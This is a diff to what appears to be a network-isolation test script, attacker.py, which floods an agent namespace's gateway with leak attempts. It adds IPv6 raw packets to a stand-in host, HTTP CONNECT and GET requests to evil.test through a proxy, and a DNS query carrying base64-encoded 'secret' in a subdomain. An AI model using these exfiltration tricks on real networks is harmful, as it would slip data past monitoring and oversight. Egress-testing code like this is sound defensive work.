@@ -1,6 +1,6 @@
-"""attacker.py SECONDS: everything at once that should not leave, as fast as one process can, as root of an agent's namespace.
+"""attacker.py SECONDS [KINDS]: everything at once that should not leave, as fast as one process can, as root of an agent's namespace.
 
-Plain sockets, so that it runs wherever Python does. Prints how many attempts it made of each kind.
+KINDS are some of ATTEMPTS and AT_THE_GATE, with commas; `all` and `gate` are all of one. Plain sockets, so that it runs wherever Python does. Prints how many attempts it made of each kind.
 """
 
 import collections
@@ -39,6 +39,11 @@ def raw(kind, payload):
         s.sendto(payload, (EVIL4, 0))
 
 
+def raw6(kind, payload):
+    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, kind) as s:
+        s.sendto(payload, (EVIL6, 0))
+
+
 def ping():
     raw(socket.IPPROTO_ICMP, b"\x08\x00\xf7\xff\x00\x00\x00\x00")
 
@@ -67,21 +72,49 @@ ATTEMPTS = {
     "ping": ping,
     "gre": lambda: raw(47, b"\0" * 16),
     "sctp": lambda: raw(132, b"\0" * 16),
+    "ping6": lambda: raw6(58, b"\x80\x00\x00\x00\x00\x00\x00\x00"),
+    "gre6": lambda: raw6(47, b"\0" * 16),
+    "sctp6": lambda: raw6(132, b"\0" * 16),
     "mark": marked,
     "spoof": spoofed,
 }
 
 
+GATE4 = "172.20.0.1"
+
+
+def connect_evil():
+    with socket.create_connection((GATE4, 3128), 0.2) as s:
+        s.sendall(b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")
+        s.recv(16)
+
+
+def request_evil():
+    with socket.create_connection((GATE4, 3128), 0.2) as s:
+        s.sendall(b"GET http://evil.test/secret HTTP/1.1\r\nHost: evil.test\r\n\r\n")
+        s.recv(16)
+
+
+# By the gateway's own listeners.
+AT_THE_GATE = {
+    "ask": lambda: udp(socket.AF_INET, GATE4, 53, question("c2VjcmV0.evil.test")),
+    "connect": connect_evil,
+    "request": request_evil,
+}
+
+
 def main():
     end = time.monotonic() + float(sys.argv[1])
-    only = sys.argv[2].split(",") if len(sys.argv) > 2 else list(ATTEMPTS)
+    groups = {"all": list(ATTEMPTS), "gate": list(AT_THE_GATE)}
+    attempts = {**ATTEMPTS, **AT_THE_GATE}
+    only = [kind for word in (sys.argv[2] if len(sys.argv) > 2 else "all").split(",") for kind in groups.get(word, [word])]
     pause = float(os.environ.get("PAUSE", "0.002"))
     made = collections.Counter()
     while time.monotonic() < end:
         for kind in only:
             made[kind] += 1
             with contextlib.suppress(OSError):
-                ATTEMPTS[kind]()
+                attempts[kind]()
         time.sleep(pause)
     print(json.dumps(made))
 
